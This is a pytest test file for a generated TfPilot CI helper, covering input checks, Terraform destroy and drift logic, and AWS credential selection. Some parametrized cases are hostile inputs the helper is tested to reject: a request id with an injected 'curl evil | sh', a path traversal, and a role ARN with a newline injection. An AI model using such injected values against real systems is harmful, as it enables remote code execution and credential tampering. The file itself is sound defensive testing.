"""The generated ``.github/tfpilot/tfpilot_ci.py``, run as the workflows run it.

HTTP goes to local servers on 127.0.0.1 port 0 (the helper allows plain http only there).
"""

from __future__ import annotations

import json
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.scaffold.conftest import Helper

RID = "req_abc123def456"
OTHER = "req_zzz999yyy888"
SECRET = "drift-secret-value-1234"


def request_file(request_id: str, body: str) -> str:
    return f"# tfpilot:begin {request_id}\n{body}# tfpilot:end {request_id}\n"


# ---- check-inputs ----------------------------------------------------------------------------


def test_check_inputs_ok(helper: Helper) -> None:
    done = helper("check-inputs", env={"REQUEST_ID": RID, "TF_ENV": "dev"})
    assert done.returncode == 0, done.stdout
    assert f"request {RID} in environment dev: inputs ok" in done.stdout


@pytest.mark.parametrize(
    ("request_id", "environment", "message"),
    [
        ('x"; curl evil | sh', "dev", "is not a TfPilot request id"),
        ("", "dev", "is not a TfPilot request id"),
        ("REQ_ABC123DEF456", "dev", "is not a TfPilot request id"),
        (RID, "qa", "'qa' is not a directory under envs/"),
        (RID, "../dev", "is not a directory under envs/"),
        (RID, "", "is not a directory under envs/"),
    ],
)
def test_check_inputs_refuses(helper: Helper, request_id: str, environment: str, message: str) -> None:
    done = helper("check-inputs", env={"REQUEST_ID": request_id, "TF_ENV": environment})
    assert done.returncode == 1
    assert done.stdout.startswith("::error::")
    assert message in done.stdout


def test_check_inputs_drift_allows_no_request(helper: Helper) -> None:
    assert helper("check-inputs", env={"REQUEST_ID": "", "TF_ENV": "prod"}).returncode == 1
    done = helper("check-inputs", "--allow-empty-request-id", env={"REQUEST_ID": "", "TF_ENV": "prod"})
    assert done.returncode == 0
    assert "request (all) in environment prod" in done.stdout


def test_check_inputs_base_branch_and_merged_file(helper: Helper, repo: Path) -> None:
    env = {"REQUEST_ID": RID, "TF_ENV": "dev", "GITHUB_REF_NAME": f"request/{RID}"}
    done = helper("check-inputs", "--require-branch", "main", env=env)
    assert done.returncode == 1
    assert f"runs only on the base branch 'main', not 'request/{RID}'" in done.stdout
    env["GITHUB_REF_NAME"] = "main"
    done = helper("check-inputs", "--require-branch", "main", "--require-file", env=env)
    assert done.returncode == 1
    assert f"envs/dev/tfpilot_{RID}.tf is not on this branch: merge the request first" in done.stdout
    (repo / f"envs/dev/tfpilot_{RID}.tf").write_text(request_file(RID, 'resource "terraform_data" "a" {}\n'))
    assert helper("check-inputs", "--require-branch", "main", "--require-file", env=env).returncode == 0


# ---- targets, request-file, check-destroy ----------------------------------------------------

REQUEST_TF = request_file(
    RID,
    'module "logs_bucket" {\n  source = "./modules/s3"\n}\n\n'
    'resource "aws_s3_bucket_policy" "logs" {\n  bucket = module.logs_bucket.id\n}\n\n'
    'data "aws_caller_identity" "me" {}\n',
)


def test_targets(helper: Helper, tmp_path: Path) -> None:
    path = tmp_path / "request.tf"
    path.write_text('resource "aws_s3_bucket" "outside_markers" {}\n' + REQUEST_TF)
    done = helper("targets", str(path), env={"REQUEST_ID": RID})
    assert done.returncode == 0, done.stdout
    assert done.stdout.splitlines() == ["module.logs_bucket", "aws_s3_bucket_policy.logs"]


def test_targets_without_blocks(helper: Helper, tmp_path: Path) -> None:
    path = tmp_path / "request.tf"
    path.write_text(request_file(RID, "# nothing\n"))
    done = helper("targets", str(path), env={"REQUEST_ID": RID})
    assert done.returncode == 1
    assert "declares no resource or module: nothing to target" in done.stdout


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def git_repo(repo: Path) -> Path:
    git(repo, "init", "-q", "-b", "main")
    git(repo, "config", "user.email", "t@example.com")
    git(repo, "config", "user.name", "t")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "scaffold")
    return repo


def test_request_file_from_checkout(helper: Helper, git_repo: Path, tmp_path: Path) -> None:
    (git_repo / f"envs/dev/tfpilot_{RID}.tf").write_text(REQUEST_TF)
    out = tmp_path / "out.tf"
    done = helper("request-file", "--out", str(out), env={"REQUEST_ID": RID, "TF_ENV": "dev"})
    assert done.returncode == 0, done.stdout
    assert "from the checkout" in done.stdout
    assert out.read_text() == REQUEST_TF


def test_request_file_from_before_its_cleanup(helper: Helper, git_repo: Path, tmp_path: Path) -> None:
    rel = f"envs/dev/tfpilot_{RID}.tf"
    (git_repo / rel).write_text(REQUEST_TF)
    git(git_repo, "add", rel)
    git(git_repo, "commit", "-q", "-m", "request")
    (git_repo / "envs/dev/other.tf").write_text("# later work\n")
    git(git_repo, "add", ".")
    git(git_repo, "commit", "-q", "-m", "other")
    git(git_repo, "rm", "-q", rel)
    git(git_repo, "commit", "-q", "-m", "cleanup")
    removed = git(git_repo, "rev-parse", "HEAD").strip()
    git(git_repo, "commit", "-q", "--allow-empty", "-m", "after")
    out = tmp_path / "out.tf"
    done = helper("request-file", "--out", str(out), env={"REQUEST_ID": RID, "TF_ENV": "dev"})
    assert done.returncode == 0, done.stdout
    assert f"from {removed}^ (the commit before it was removed)" in done.stdout
    assert out.read_text() == REQUEST_TF


def test_request_file_never_committed(helper: Helper, git_repo: Path, tmp_path: Path) -> None:
    done = helper("request-file", "--out", str(tmp_path / "o.tf"), env={"REQUEST_ID": RID, "TF_ENV": "dev"})
    assert done.returncode == 1
    assert "was never committed on this branch" in done.stdout


def plan_json(changes: list[tuple[str, list[str]]]) -> dict[str, Any]:
    return {
        "format_version": "1.2",
        "resource_changes": [{"address": a, "change": {"actions": acts}} for a, acts in changes],
    }


@pytest.mark.parametrize(
    ("changes", "ok", "message"),
    [
        (
            [("module.logs_bucket.aws_s3_bucket.this", ["delete"]), ("aws_s3_bucket_policy.logs", ["delete"])],
            True,
            "2 resource(s)",
        ),
        ([('module.logs_bucket["a"].aws_s3_bucket.this', ["delete"]), ("data.x.y", ["read"])], True, "1 resource(s)"),
        ([], True, "0 resource(s)"),
        (
            [("aws_s3_bucket_policy.logs", ["delete"]), ("aws_iam_role.someone_elses", ["delete"])],
            False,
            "aws_iam_role.someone_elses (delete)",
        ),
        ([("module.logs_bucket_2.x.y", ["delete"])], False, "module.logs_bucket_2.x.y (delete)"),
        ([("aws_s3_bucket_policy.logs", ["update"])], False, "aws_s3_bucket_policy.logs (update)"),
    ],
)
def test_check_destroy(
    helper: Helper, tmp_path: Path, changes: list[tuple[str, list[str]]], ok: bool, message: str
) -> None:
    (tmp_path / "targets.txt").write_text("module.logs_bucket\naws_s3_bucket_policy.logs\n")
    (tmp_path / "plan.json").write_text(json.dumps(plan_json(changes)))
    done = helper("check-destroy", str(tmp_path / "plan.json"), "--targets", str(tmp_path / "targets.txt"))
    assert (done.returncode == 0) is ok, done.stdout
    assert message in done.stdout
    if not ok:
        assert "the destroy plan changes more than this request's resources" in done.stdout


# ---- drift -----------------------------------------------------------------------------------


class FakeTfPilot:
    """A TfPilot side service stand-in: pages of eligible requests, recorded drift results."""

    def __init__(self) -> None:
        self.pages: dict[str | None, dict[str, Any]] = {}
        self.posted: dict[str, dict[str, Any]] = {}
        self.seen: list[tuple[str, str, str | None]] = []
        self.status = 200


@pytest.fixture
def tfpilot() -> Iterator[tuple[FakeTfPilot, str]]:
    state = FakeTfPilot()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def _reply(self, code: int, body: Any) -> None:
            raw = json.dumps(body).encode()
            self.send_response(code)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(raw)))
            self.end_headers()
            self.wfile.write(raw)

        def do_GET(self) -> None:
            from urllib.parse import parse_qs, urlsplit

            state.seen.append(("GET", self.path, self.headers.get("x-tfpilot-secret")))
            if state.status != 200 or self.headers.get("x-tfpilot-secret") != SECRET:
                self._reply(state.status if state.status != 200 else 401, {"error": "no"})
                return
            url = urlsplit(self.path)
            assert url.path == "/api/requests/drift-eligible"
            cursor = parse_qs(url.query).get("cursor", [None])[0]
            self._reply(200, state.pages[cursor])

        def do_POST(self) -> None:
            state.seen.append(("POST", self.path, self.headers.get("x-tfpilot-secret")))
            length = int(self.headers["content-length"])
            body = json.loads(self.rfile.read(length))
            request_id = self.path.split("/")[3]
            assert self.path == f"/api/requests/{request_id}/drift-result"
            state.posted[request_id] = body
            self._reply(200, {"ok": True})

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield state, f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def drift_env(url: str, **extra: str) -> dict[str, str]:
    return {
        "TF_ENV": "dev",
        "REQUEST_ID": "",
        "TFPILOT_URL": url + "/",
        "TFPILOT_WEBHOOK_SECRET": SECRET,
        "TFPILOT_PROJECT": "core",
        "GITHUB_SERVER_URL": "https://github.example.com",
        "GITHUB_REPOSITORY": "acme/core-infra",
        "GITHUB_RUN_ID": "777",
        **extra,
    }


def test_drift_reports_each_eligible_request(
    helper: Helper, repo: Path, tmp_path: Path, tfpilot: tuple[FakeTfPilot, str]
) -> None:
    state, url = tfpilot
    third = "req_third0000000"
    state.pages = {
        None: {
            "rows": [{"id": RID, "project": "core", "environment": "dev"}, {"id": OTHER, "environment": "prod"}],
            "cursor": "p2",
        },
        "p2": {
            "rows": [
                {"id": third, "project": "core", "environment": "dev"},
                {"id": "req_otherproject1", "project": "payments", "environment": "dev"},
                {"id": "not-an-id"},
                {"id": "req_nofile0000000", "environment": "dev"},
            ],
            "cursor": None,
        },
    }
    (repo / f"envs/dev/tfpilot_{RID}.tf").write_text(REQUEST_TF)
    (repo / f"envs/dev/tfpilot_{third}.tf").write_text(request_file(third, 'resource "aws_sqs_queue" "q" {}\n'))
    plan = plan_json(
        [
            ("module.logs_bucket.aws_s3_bucket.this", ["update"]),
            ("aws_s3_bucket_policy.logs", ["delete", "create"]),
            ("aws_s3_bucket_policy.logs_other", ["delete"]),  # a prefix look-alike, not ours
            ("data.aws_caller_identity.me", ["read"]),
        ]
    )
    (tmp_path / "plan.json").write_text(json.dumps(plan))
    done = helper("drift", "--plan", str(tmp_path / "plan.json"), "--plan-exit-code", "2", env=drift_env(url))
    assert done.returncode == 0, done.stdout
    assert set(state.posted) == {RID, third}
    mine = state.posted[RID]
    assert mine["detected"] is True
    assert mine["counts"] == {"add": 1, "change": 1, "destroy": 1}
    assert mine["summary"].startswith(
        "1 to add, 1 to change, 1 to destroy: module.logs_bucket.aws_s3_bucket.this (update)"
    )
    assert "logs_other" not in mine["summary"]
    assert mine["run_url"] == "https://github.example.com/acme/core-infra/actions/runs/777"
    assert mine["checked_at"].endswith("Z") and len(mine["checked_at"]) == 20
    assert state.posted[third]["detected"] is False
    assert state.posted[third]["counts"] == {"add": 0, "change": 0, "destroy": 0}
    assert "req_nofile0000000: envs/dev/tfpilot_req_nofile0000000.tf is not on this branch, skipped" in done.stdout
    assert all(secret == SECRET for _, _, secret in state.seen)
    first_get = state.seen[0][1]
    assert "environment=dev" in first_get and "project=core" in first_get
    assert SECRET not in done.stdout + done.stderr


def test_drift_without_changes_needs_no_plan_file(
    helper: Helper, repo: Path, tmp_path: Path, tfpilot: tuple[FakeTfPilot, str]
) -> None:
    state, url = tfpilot
    state.pages = {None: {"rows": [{"id": RID, "environment": "dev"}]}}
    (repo / f"envs/dev/tfpilot_{RID}.tf").write_text(REQUEST_TF)
    done = helper("drift", "--plan", str(tmp_path / "absent.json"), "--plan-exit-code", "0", env=drift_env(url))
    assert done.returncode == 0, done.stdout
    assert state.posted[RID]["detected"] is False
    assert state.posted[RID]["summary"] == "No drift: the resources match the configuration."


def test_drift_for_one_request(helper: Helper, repo: Path, tmp_path: Path, tfpilot: tuple[FakeTfPilot, str]) -> None:
    state, url = tfpilot
    state.pages = {None: [{"id": RID}, {"id": OTHER}]}  # a bare list is accepted too
    for rid in (RID, OTHER):
        (repo / f"envs/dev/tfpilot_{rid}.tf").write_text(request_file(rid, 'resource "aws_sqs_queue" "q" {}\n'))
    done = helper("drift", "--plan", "x", "--plan-exit-code", "0", env=drift_env(url, REQUEST_ID=OTHER))
    assert done.returncode == 0, done.stdout
    assert set(state.posted) == {OTHER}


def test_drift_refused_by_tfpilot(helper: Helper, tfpilot: tuple[FakeTfPilot, str]) -> None:
    state, url = tfpilot
    done = helper(
        "drift", "--plan", "x", "--plan-exit-code", "0", env=drift_env(url, TFPILOT_WEBHOOK_SECRET="wrong-one")
    )
    assert [(m, secret) for m, _, secret in state.seen] == [("GET", "wrong-one")]  # 4xx: no retry
    assert state.posted == {}
    assert done.returncode == 1
    assert "::error::GET " in done.stdout and "failed with HTTP 401" in done.stdout
    assert "wrong-one" not in done.stdout and "environment=" not in done.stdout  # no query string in logs


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"TFPILOT_URL": ""}, "TFPILOT_URL is not set"),
        ({"TFPILOT_WEBHOOK_SECRET": ""}, "TFPILOT_WEBHOOK_SECRET is not set"),
        ({"TFPILOT_URL": "http://tfpilot.example.com"}, "TFPILOT_URL must be https://"),
    ],
)
def test_drift_configuration_errors(helper: Helper, extra: dict[str, str], message: str) -> None:
    done = helper("drift", "--plan", "x", "--plan-exit-code", "0", env=drift_env("http://127.0.0.1:9", **extra))
    assert done.returncode == 1
    assert message in done.stdout


# ---- aws-method ------------------------------------------------------------------------------
# The STS exchange is aws-actions/configure-aws-credentials'; the helper only picks its inputs.

ROLE = "arn:aws:iam::123456789012:role/tfpilot"


def read_outputs(path: Path) -> dict[str, str]:
    return dict(line.split("=", 1) for line in path.read_text().splitlines())


@pytest.mark.parametrize(
    ("role", "keys_set", "method", "said"),
    [
        (ROLE, "false", "role", f"AWS credentials from the OIDC role {ROLE}"),
        # Both set: the role wins (the action would otherwise assume the role with the keys).
        (ROLE, "true", "role", f"AWS credentials from the OIDC role {ROLE}"),
        ("", "true", "keys", "AWS credentials from the access keys in the secrets AWS_ACCESS_KEY_ID"),
        ("arn:aws-us-gov:iam::123456789012:role/path/tf-pilot", "false", "role", "the OIDC role arn:aws-us-gov"),
    ],
)
def test_aws_method(helper: Helper, tmp_path: Path, role: str, keys_set: str, method: str, said: str) -> None:
    outputs = tmp_path / "github_output"
    env = {"GITHUB_OUTPUT": str(outputs), "TFPILOT_AWS_ROLE_ARN": role, "TFPILOT_AWS_KEYS_SET": keys_set}
    done = helper("aws-method", env=env)
    assert done.returncode == 0, done.stdout
    assert read_outputs(outputs) == {"method": method}
    assert said in done.stdout


def test_aws_no_credentials(helper: Helper, tmp_path: Path) -> None:
    outputs = tmp_path / "github_output"
    done = helper("aws-method", env={"GITHUB_OUTPUT": str(outputs), "TFPILOT_AWS_KEYS_SET": "false"})
    assert done.returncode == 1
    assert done.stdout.startswith("::error::no AWS credentials: set the variable TFPILOT_AWS_ROLE_ARN")
    assert "or the secrets AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY" in done.stdout
    assert not outputs.exists()


@pytest.mark.parametrize(
    "role",
    [
        "tfpilot",
        "arn:aws:iam::12345:role/tfpilot",
        "arn:aws:iam::123456789012:user/tfpilot",
        "arn:aws:iam::123456789012:role/tf pilot",
        "arn:aws:iam::123456789012:role/x\nmethod=keys",
    ],
)
def test_aws_role_arn_is_checked(helper: Helper, tmp_path: Path, role: str) -> None:
    outputs = tmp_path / "github_output"
    done = helper("aws-method", env={"GITHUB_OUTPUT": str(outputs), "TFPILOT_AWS_ROLE_ARN": role})
    assert done.returncode == 1
    assert "is not an IAM role ARN (arn:aws:iam::<account>:role/<name>)" in done.stdout
    assert not outputs.exists()


def test_aws_method_outside_actions(helper: Helper) -> None:
    done = helper("aws-method", env={"TFPILOT_AWS_ROLE_ARN": ROLE})
    assert done.returncode == 1
    assert "GITHUB_OUTPUT is not set" in done.stdout


# ---- the helper itself -----------------------------------------------------------------------


def test_helper_is_lint_clean(repo: Path) -> None:
    import shutil
    import sys

    from core.scaffold.generator import HELPER_PATH
    from tests.conftest import REPO_ROOT

    ruff = shutil.which("ruff") or str(Path(sys.executable).parent / "ruff")
    if not Path(ruff).exists():
        pytest.skip("ruff is not installed")
    config = str(REPO_ROOT / "pyproject.toml")
    for args in (["check", "--no-cache"], ["format", "--check", "--no-cache"]):
        done = subprocess.run(
            [ruff, *args, "--config", config, str(repo / HELPER_PATH)], capture_output=True, text=True, check=False
        )
        assert done.returncode == 0, done.stdout + done.stderr


def test_helper_help(helper: Helper) -> None:
    done = helper("--help")
    assert done.returncode == 0
    for command in ("check-inputs", "aws-method", "request-file", "targets", "check-destroy", "drift"):
        assert command in done.stdout


# ---- destroy-preflight and check-restore -----------------------------------------------------


@pytest.fixture(scope="module")
def aws_cloud(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A moto server the real AWS CLI talks to (the helper asks AWS whether data is held)."""
    import shutil

    from core.adapters.local_cloud import MotoServer

    if shutil.which("aws") is None or MotoServer.available() is not None:
        pytest.skip("the AWS CLI or moto's server is not installed")
    server = MotoServer(tmp_path_factory.mktemp("preflight-cloud"))
    yield server.endpoint()
    server.stop()


def _aws_env(endpoint: str) -> dict[str, str]:
    return {
        "AWS_ENDPOINT_URL": endpoint,
        "AWS_ACCESS_KEY_ID": "test",
        "AWS_SECRET_ACCESS_KEY": "test",
        "AWS_DEFAULT_REGION": "us-east-1",
    }


def _deleting(rtype: str, before: dict[str, Any], address: str | None = None) -> dict[str, Any]:
    return {
        "address": address or f"module.x.{rtype}.this",
        "type": rtype,
        "mode": "managed",
        "change": {"actions": ["delete"], "before": before},
    }


def test_destroy_preflight_asks_aws_and_refuses_before_anything_is_deleted(
    helper: Helper, tmp_path: Path, aws_cloud: str
) -> None:
    import boto3

    s3 = boto3.client("s3", endpoint_url=aws_cloud, region_name="us-east-1", aws_access_key_id="test",
                      aws_secret_access_key="test")  # fmt: skip
    s3.create_bucket(Bucket="holds-data")
    s3.put_object(Bucket="holds-data", Key="a.txt", Body=b"keep me")
    s3.create_bucket(Bucket="empty-one")
    ecr = boto3.client("ecr", endpoint_url=aws_cloud, region_name="us-east-1", aws_access_key_id="test",
                       aws_secret_access_key="test")  # fmt: skip
    ecr.create_repository(repositoryName="images")
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
            "config": {"digest": "sha256:" + "a" * 64},
            "layers": [],
        }
    )
    ecr.put_image(repositoryName="images", imageManifest=manifest, imageTag="v1")
    env = _aws_env(aws_cloud)

    def preflight(*changes: dict[str, Any]) -> subprocess.CompletedProcess[str]:
        (tmp_path / "plan.json").write_text(json.dumps({"format_version": "1.2", "resource_changes": list(changes)}))
        return helper("destroy-preflight", str(tmp_path / "plan.json"), env=env)

    ok = preflight(
        _deleting("aws_s3_bucket", {"bucket": "empty-one", "force_destroy": False}),
        _deleting("aws_s3_bucket", {"bucket": "holds-data", "force_destroy": True}, "module.y.aws_s3_bucket.this"),
        _deleting("aws_dynamodb_table", {"name": "t", "deletion_protection_enabled": False}),
    )
    assert ok.returncode == 0 and "AWS will accept every delete" in ok.stdout, ok.stdout + ok.stderr
    refused = preflight(
        _deleting("aws_s3_bucket", {"bucket": "holds-data", "force_destroy": False}),
        _deleting("aws_ecr_repository", {"name": "images", "force_delete": None}),
        _deleting("aws_dynamodb_table", {"name": "t", "deletion_protection_enabled": True}),
        _deleting("aws_s3_bucket_policy", {"bucket": "holds-data"}),
    )
    assert refused.returncode == 1 and refused.stdout.startswith("::error::destroy refused before deleting anything")
    said = refused.stdout
    assert "module.x.aws_s3_bucket.this: it holds objects and force_destroy is off" in said
    assert "module.x.aws_ecr_repository.this: it holds images and force_delete is off" in said
    assert "module.x.aws_dynamodb_table.this: deletion_protection_enabled is on" in said
    assert "aws_s3_bucket_policy" not in said and "Prepare destroy" in said


def test_check_restore_refuses_a_plan_that_deletes(helper: Helper, tmp_path: Path) -> None:
    (tmp_path / "plan.json").write_text(
        json.dumps(plan_json([("module.x.aws_s3_bucket_public_access_block.this", ["create"])]))
    )
    done = helper("check-restore", str(tmp_path / "plan.json"))
    assert done.returncode == 0 and "creates and updates only" in done.stdout
    (tmp_path / "plan.json").write_text(json.dumps(plan_json([("module.x.aws_s3_bucket.this", ["delete", "create"])])))
    done = helper("check-restore", str(tmp_path / "plan.json"))
    assert done.returncode == 1 and "would delete module.x.aws_s3_bucket.this" in done.stdout
